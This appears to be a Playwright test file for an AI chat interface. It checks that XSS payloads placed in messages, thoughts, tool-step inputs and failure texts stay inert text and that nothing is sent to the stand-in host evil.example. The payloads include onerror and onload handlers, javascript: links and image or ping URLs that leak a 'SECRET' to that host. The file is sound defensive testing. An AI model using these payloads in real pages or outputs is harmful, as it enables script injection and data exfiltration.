import assert from "node:assert/strict";
import { after, before, test } from "node:test";
import type { Page } from "playwright-core";
import { type Driver, drawn, requestsOf, startDriver, tell, violationsOf } from "../harness/driver.ts";
import { readPayloads, watchPage } from "../harness/payloads.ts";
import { answer, run, session, step, user } from "../harness/samples.ts";
import { config } from "../harness/states.ts";
import { startTrap, type Trap } from "../harness/trap.ts";

let trap: Trap;
let driver: Driver;
before(async () => {
  trap = await startTrap();
  driver = await startDriver(trap.flags);
});
after(async () => {
  await driver.close();
  await trap.close();
});

const picture = "https://evil.example/p.png?d=SECRET";

/** What the given payloads don't try: the marks this view reads. */
const own: readonly string[] = [
  `$$\\href{javascript:alert(1)}{x}$$ $\\style{background:url(${picture})}{x}$ \\(\\html{<img src=x onerror=alert(1)>}\\)`,
  `$\\text{<img src=x onerror=alert(1)>}$ $$\\text{</math><img src=x onerror=alert(1)>}$$`,
  `\`\`\`html" onmouseover="alert(1)\n<img src=x onerror=alert(1)>\n\`\`\``,
  `\`\`\`mermaid\ngraph TD; A[<img src=x onerror=alert(1)>] --> B; click A "javascript:alert(1)"\n\`\`\``,
  `\`\`\`svg\n<svg onload=alert(1)><image href="${picture}"/></svg>\n\`\`\``,
  `\`\`\`js\n/* </code></pre><script>alert(1)</script>\n`,
  `| a | <img src=x onerror=alert(1)> |\n| - | - |\n| ![x](${picture}) | [x](javascript:alert(1)) |`,
  `![<img src=x onerror=alert(1)>](${picture})`,
  `[![x](${picture})](${picture})`,
  `![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+)`,
  `![x][r]\n\n[r]: ${picture}`,
  `<svg><foreignObject><body onload=alert(1)></svg>`,
  `<math><mi xlink:href="javascript:alert(1)">x</mi><maction actiontype="statusline#https://evil.example">x</maction></math>`,
  `<link rel=stylesheet href="${picture}"><base href="https://evil.example/">`,
  `<input autofocus onfocus=alert(1)><dialog open>x</dialog><portal src="${picture}"></portal>`,
  `<div popover id=a>x</div><button popovertarget=a>y</button>`,
  `<a ping="${picture}" href="https://evil.example/" download>x</a>`,
];

test("What is hostile stays words in messages, thoughts, titles, inputs, outputs and failures, and nothing of it leaves the page", async () => {
  const page = await blank();
  const noted = watchPage(page);
  const texts = [...own, ...readPayloads().flatMap((each) => (each.category === "stress" ? [] : [each.text]))];
  for (const [index, text] of texts.entries()) {
    await show(page, index, text);
    await page.evaluate(openAll);
    await drawn(page);
    assert.equal(await page.locator(".turns :is(.details, .thought > .markdown)").count(), 2, "both are open");
    assert.deepEqual(await page.evaluate(foreign), [], text);
  }
  await drawn(page);
  assert.deepEqual(noted, []);
  assert.deepEqual(trap.caught, []);
  assert.deepEqual(await violationsOf(page), []);
  await page.close();
});

test("A press on a hostile picture or link asks the host for that address and nothing else", async () => {
  const page = await blank();
  await show(page, 0, `![x](${picture}) [y](${picture})`);
  await page.locator(".words > .markdown").getByRole("button", { name: "Load picture from evil.example" }).click();
  await page.locator(".words > .markdown").getByRole("link", { name: "y" }).click();
  assert.deepEqual(await requestsOf(page, "loadPicture"), [{ url: picture }]);
  assert.deepEqual(await requestsOf(page, "openLink"), [{ url: picture }]);
  assert.deepEqual(trap.caught, []);
  await page.close();
});

async function show(page: Page, index: number, text: string): Promise<void> {
  const [runId, messageId] = [`run${index}`, `a${index}`];
  const hostile = { title: `Run ${text}`, summary: text.slice(0, 40), output: text, input: { command: text, path: text } };
  await tell(page, {
    type: "session",
    view: {
      ...session(),
      seq: index + 1,
      runs: [run(runId, { state: "failed", failure: { code: "internal", message: text } })],
      messages: [user(`u${index}`, runId, text), { ...answer(messageId, runId, text), thought: text }],
      steps: [{ ...step(`s${index}`, messageId, { tool: "run_command", ...hostile }), runId }],
    },
  });
  await drawn(page);
}

function blank(): Promise<Page> {
  return driver.open(
    driver.harness.show([
      { type: "config", config },
      { type: "session", view: session() },
    ]),
  );
}

/** Opens the thought and the step. */
function openAll(): void {
  for (const each of document.querySelectorAll<HTMLElement>(".thought [aria-expanded=false], .step-line[aria-expanded=false]"))
    each.click();
}

/** What an answer is never made of, and what no element has of a text. */
function foreign(): string[] {
  const found = [
    ...document.querySelectorAll(".turns :is(img, script, style, iframe, svg, object, embed, form, input, link, base, dialog, a, maction)"),
  ];
  const marked = [...document.querySelectorAll(".turns *")].filter((each) =>
    each.getAttributeNames().some((name) => /^on|^(?:href|src|srcset|style|action|formaction|popover|ping|xlink:href)$/.test(name)),
  );
  return [...found, ...marked].map((each) => each.outerHTML.slice(0, 200));
}
